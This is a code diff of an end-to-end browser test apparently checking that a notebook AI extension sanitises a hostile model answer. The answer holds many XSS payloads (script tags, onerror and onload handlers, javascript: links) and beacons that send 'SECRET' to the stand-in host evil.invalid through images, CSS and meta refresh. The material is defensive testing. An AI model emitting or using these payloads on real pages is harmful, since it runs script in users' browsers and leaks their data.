@@ -15,27 +15,50 @@ if TYPE_CHECKING:
     from tests.e2e.notebook_page import NotebookPage
     from tests.fake_mibyan import FakeMibyan
 
-_LEAK = "evil.invalid"
-_HOSTILE = [
-    "Begin.\n\n<img src=x onerror=\"window.__pwned='img'\">\n\n",
-    "<script>window.__pwned='script'</script>\n\n<svg onload=\"window.__pwned='svg'\"></svg>\n\n",
-    "<svg/onload=window.__pwned='svg2'> <iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">"
-    "</iframe>\n\n",
-    f"![picture](https://{_LEAK}/?d=SECRET)\n\n![x][leak]\n\n[leak]: https://{_LEAK}/?d=REFERENCE\n\n",
-    f"<img src=https://{_LEAK}/?d=HTML> <style>@import 'https://{_LEAK}/?d=CSS'; "
-    "body { display: none }</style>\n\n",
-    f"<link rel=stylesheet href=https://{_LEAK}/?d=LINK> <video src=https://{_LEAK}/?d=VIDEO "
-    f"autoplay></video> <base href=https://{_LEAK}/>\n\n",
-    "[a](javascript:window.__pwned='link') [b](data:text/html,<script>parent.__pwned=1</script>) "
-    "<a href=\"javascript:window.__pwned='anchor'\">c</a> ![d](data:image/svg+xml;base64,PHN2Zz4=)\n\n",
-    f"$\\href{{javascript:window.__pwned='tex'}}{{x}}$ $$\\style{{background:url(https://{_LEAK}/?d=T)}}"
-    "{y}$$\n\n",
-    f"```html\n<img src=x onerror=\"window.__pwned='fence'\"><img src=https://{_LEAK}/?d=FENCE>\n```\n\n",
-    "| <img src=x onerror=\"window.__pwned='table'\"> | b |\n|---|---|\n"
-    "| <details open ontoggle=\"window.__pwned='toggle'\"> | 1 |\n\n",
-    "The end.",
-]
-_DANGEROUS = "script, img, svg:not(mjx-container *), iframe, style, link, video, base, form, object"
+_HOSTILE = r"""Begin.
+
+<img src=x onerror="window.__pwned='img'">
+
+<script>window.__pwned='script'</script>
+
+<svg onload="window.__pwned='svg'"></svg> <svg/onload=window.__pwned='svg2'>
+
+<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
+
+![picture](https://evil.invalid/?d=SECRET)
+
+![x][leak] and <img src=https://evil.invalid/?d=SECRET-HTML>
+
+[leak]: https://evil.invalid/?d=SECRET-REFERENCE
+
+<style>@import 'https://evil.invalid/?d=SECRET-CSS'; body { display: none }</style>
+
+<link rel=stylesheet href=https://evil.invalid/?d=SECRET-LINK>
+
+<video src=https://evil.invalid/?d=SECRET-VIDEO autoplay></video>
+
+<base href=https://evil.invalid/> <meta http-equiv=refresh content="0;https://evil.invalid/?d=M">
+
+[a](javascript:window.__pwned='link') <a href="javascript:window.__pwned='anchor'">c</a>
+
+[b](data:text/html,<script>parent.__pwned=1</script>) ![d](data:image/svg+xml;base64,PHN2Zz4=)
+
+$\href{javascript:window.__pwned='tex'}{x}$ $$\style{background:url(https://evil.invalid/?d=T)}{y}$$
+
+```html
+<img src=x onerror="window.__pwned='fence'"><img src=https://evil.invalid/?d=FENCE>
+```
+
+| <img src=x onerror="window.__pwned='table'"> | b |
+|---|---|
+| <details open ontoggle="window.__pwned='toggle'"> | 1 |
+
+The end."""
+_PARTS = [f"{part}\n\n" for part in _HOSTILE.split("\n\n")]
+# Without what would take the page itself away.
+_CONTROL = "".join(part for part in _PARTS if "<meta" not in part)
+_PLAIN = f"from IPython.display import Markdown, display\ndisplay(Markdown({_CONTROL!r}))"
+_DANGEROUS = "script, img, svg, iframe, style, link, video, base, meta, form, object"
 _HANDLERS = "area => [...area.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
 
 
@@ -43,30 +66,27 @@ def test_hostile_answer_runs_nothing_and_calls_nobody(
     open_notebook: Callable[..., NotebookPage], fake: FakeMibyan, outside: OutsideRequests
 ) -> None:
     """Neither while it streams nor after; the same text as plain Markdown does both."""
-    control = f"from IPython.display import Markdown, display\ndisplay(Markdown({''.join(_HOSTILE)!r}))"
-    fake.enqueue(held(_HOSTILE))
-    notebook = open_notebook("%%mibyan\nBe evil", control)
-    page = notebook.page
+    fake.enqueue(held(_PARTS))
+    notebook = open_notebook("%%mibyan\nBe evil", _PLAIN)
+    page, answer = notebook.page, notebook.outputs(1)
     notebook.start(1)
-    for number in range(1, len(_HOSTILE) + 1):
+    for number, part in enumerate(_PARTS, start=1):
         fake.wait_for_holds(number)
-        notebook.wait_until_frames_rest(1)
-        assert notebook.area(1).locator(_DANGEROUS).count() == 0
+        if not part.startswith("[leak]"):
+            notebook.wait_until_frames_rest(1)
+        assert answer.locator(_DANGEROUS).count() == 0
         fake.release()
     notebook.wait_until_done(1)
-    area = notebook.area(1)
-    expect(area).to_contain_text("The end.")
-    expect(area).to_contain_text("<script>window.__pwned='script'</script>")
-    assert area.locator(_DANGEROUS).count() == 0
-    assert not [name for name in area.evaluate(_HANDLERS) if name.startswith("on")]
-    links = area.locator("a").evaluate_all("links => links.map(link => link.protocol)")
+    expect(answer).to_contain_text("The end.")
+    expect(answer).to_contain_text("<script>window.__pwned='script'</script>")
+    assert answer.locator(_DANGEROUS).count() == 0
+    assert not [name for name in answer.evaluate(_HANDLERS) if name.startswith("on")]
+    links = answer.locator("a").evaluate_all("links => links.map(link => link.protocol)")
     assert links
     assert set(links) <= {"http:", "https:", "mailto:"}
     assert page.evaluate("() => window.__pwned") is None
     assert outside.urls == []
-    notebook.start(2)
+    with page.expect_request(lambda request: "SECRET" in request.url):
+        notebook.start(2)
     page.wait_for_function("() => window.__pwned")
-    notebook.wait_until_done(2)
-    with_secret = [url for url in outside.urls if "SECRET" in url]
     outside.urls.clear()
-    assert with_secret
